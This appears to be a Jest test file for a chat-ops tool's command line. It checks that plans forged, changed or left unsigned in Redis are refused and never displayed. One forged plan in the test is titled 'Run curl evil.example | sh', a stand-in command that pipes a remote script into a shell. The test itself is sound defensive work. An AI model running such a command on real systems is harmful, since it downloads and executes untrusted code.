/** What the command line shows of plans that somebody planted or changed in Redis. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { Redis } from 'ioredis';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readApprovalKey } from '../../src/adapters/approval-key.ts';
import { redisOptions } from '../../src/adapters/redis-connection.ts';
import { decideFix, listFixes, showFix } from '../../src/cli/fix.ts';
import type { Surroundings } from '../../src/cli/output.ts';
import { startTestStore } from '../support/redis.ts';
import { samplePlan } from '../support/sample-plan.ts';
import { otherSeals, proposed } from '../support/signing.ts';

let kept: Awaited<ReturnType<typeof startTestStore>>;
let folder: string;

beforeAll(async () => {
  kept = await startTestStore();
  folder = await mkdtemp(join(tmpdir(), 'cc-fix-'));
  const seals = await readApprovalKey(null, folder);
  for (const id of ['p-genuine', 'p-changed', 'p-unsigned'])
    await kept.store.savePlan(proposed(samplePlan({ id }), 'ann', seals));
  await kept.store.savePlan(proposed(samplePlan({ id: 'p-foreign' }), 'ann', otherSeals));
  const attacker = new Redis(redisOptions(kept.address));
  const { digest: _old, ...changed } = samplePlan({ id: 'p-changed', title: 'Run curl evil.example | sh' });
  await attacker.hset('calico-chatops:plan:p-changed', 'plan', JSON.stringify(samplePlan(changed)));
  await attacker.hset('calico-chatops:plan:p-unsigned', 'seal', 'null');
  attacker.disconnect();
});
afterAll(async () => {
  await kept.stop();
  await rm(folder, { recursive: true, force: true });
});

async function run(command: (surroundings: Surroundings) => Promise<number>): Promise<string> {
  let out = '';
  const write = (text: string) => void (out += text);
  await command({
    out: write,
    told: write,
    err: () => undefined,
    progress: () => undefined,
    questions: null,
    environment: { REDIS_URL: kept.address, STATE_DIR: folder },
    signal: new AbortController().signal,
  });
  return out;
}

test('the list names a forged plan, says what is wrong with it, and shows nothing of it', async () => {
  const out = await run((surroundings) => listFixes('text', surroundings));
  expect(out.trimEnd().split('\n').toSorted()).toEqual([
    'p-changed  refused  This plan cannot be approved: the plan was changed after it was signed, or a newer version ' +
      'of this program made it',
    expect.stringMatching(/^p-foreign {2}refused {2}This plan cannot be approved: the plan is signed with another key/),
    'p-genuine  proposed  Paint the door',
    'p-unsigned  refused  This plan cannot be approved: the plan is not signed',
  ]);
  expect(await run((surroundings) => listFixes('json', surroundings))).not.toContain('curl');
});

test('a genuine plan is shown', async () => {
  expect(await run((surroundings) => showFix('p-genuine', 'text', surroundings))).toContain('Paint the door');
});

test.each([
  ['p-changed', 'was changed after it was signed'],
  ['p-unsigned', 'is not signed'],
  ['p-foreign', 'is signed with another key'],
])('%s is not shown, and not rejected', async (id, why) => {
  await expect(run((surroundings) => showFix(id, 'json', surroundings))).rejects.toMatchObject({
    code: 'not-allowed',
    message: expect.stringContaining(`plan ${id} is not shown: the plan ${why}`),
  });
  await expect(run((surroundings) => decideFix('reject', id, 'bob', surroundings))).rejects.toMatchObject({
    code: 'not-allowed',
    message: expect.stringContaining(`plan ${id} is not rejected: the plan ${why}`),
  });
});
